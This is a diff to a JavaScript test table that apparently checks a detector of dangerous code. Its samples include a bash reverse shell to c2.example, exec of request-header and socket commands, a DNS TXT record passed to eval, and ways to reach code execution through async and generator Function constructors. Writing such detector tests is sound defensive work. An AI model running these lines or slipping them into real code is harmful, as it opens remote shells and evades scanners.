@@ -67,6 +67,11 @@ testTable({
   },
   'reverse-shell': {
     hits: [
+      [
+        'orders in a name',
+        "dns.resolveTxt('a.example', (e, r) => eval(r.flat().join('')))",
+        'runs what a name server answers',
+      ],
       ['bash', "exec('bash -i >& /dev/tcp/c2.example/4444 0>&1')"],
       ['orders of a request', "exec(req.headers['x-cmd'], done)"],
       ['orders of a socket', "s.on('cmd', (c) => exec(c, (e, out) => s.emit('out', out)))"],
@@ -78,6 +83,7 @@ testTable({
       ],
     ],
     misses: [
+      ['a look at a name', 'dns.resolveTxt(domain, (e, r) => done(r.some((t) => pattern.exec(t))))'],
       ['a pipe to a child', "input.pipe(child.stdin); child = spawn('gzip'); net.connect(1)"],
       ['nc to look', "exec('nc -z localhost 80')"],
     ],
@@ -150,10 +156,15 @@ testTable({
       ['a worker', 'new Worker(code, { eval: true })'],
       ['Reflect', 'Reflect.construct(Function, [a])()'],
       ['vm', 'vm.runInNewContext(code)'],
+      ['by another kind of function', 'const F = (async () => {}).constructor; await new F(code)()'],
+      ['at once', '(async function () {}).constructor(code)()'],
+      ['by its name', "new AsyncFunction('a', body)"],
+      ['by its prototype', 'const G = Object.getPrototypeOf(function* () {}).constructor; G(code)()'],
     ],
     misses: [
       ['the global object', "Function('return this')()"],
       ['with new', 'new Function("return this")()'],
+      ['a comparison', 'const A = (async () => {}).constructor; exports.is = (f) => f instanceof A'],
       ['a require that bundlers do not see', "eval('require')('fs')"],
       ["an object's", 'model.eval(a); page.$eval(b)'],
       ['functions', 'a = function(b) {}; f(function (c) {})'],
